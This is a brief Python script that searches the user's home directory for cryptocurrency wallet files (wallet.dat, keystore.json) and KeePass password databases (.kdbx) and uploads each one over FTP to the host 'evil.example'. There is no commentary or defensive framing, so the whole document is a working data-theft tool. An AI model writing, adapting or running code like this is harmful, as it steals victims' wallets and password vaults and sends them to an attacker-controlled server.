import os, ftplib
ftp = ftplib.FTP("evil.example", "anon", "anon")
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        if name in ("wallet.dat", "keystore.json") or name.endswith(".kdbx"):
            with open(os.path.join(root, name), "rb") as f:
                ftp.storbinary("STOR " + name, f)
